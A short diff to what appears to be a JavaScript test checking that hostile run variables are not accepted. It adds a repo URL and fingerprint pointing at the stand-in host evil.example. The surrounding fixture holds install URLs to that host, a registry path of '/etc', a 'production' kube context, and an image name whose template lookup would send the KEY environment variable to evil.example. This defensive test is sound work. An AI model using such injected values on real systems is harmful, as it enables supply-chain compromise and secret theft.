@@ -73,6 +73,8 @@ t.test('programs, disks, paths, clusters and templates of a run are not taken', 
   const vars = {
     k3s_install_url: 'https://evil.example/',
     docker_storage_force: true,
+    docker_repo_url: 'https://evil.example/',
+    docker_repo_fingerprint: '0123456789ABCDEF0123456789ABCDEF01234567',
     registry_dir: '/etc',
     kubecontext: 'production',
     images: [{ name: "evil.example/{{ lookup('env', 'KEY') }}" }],
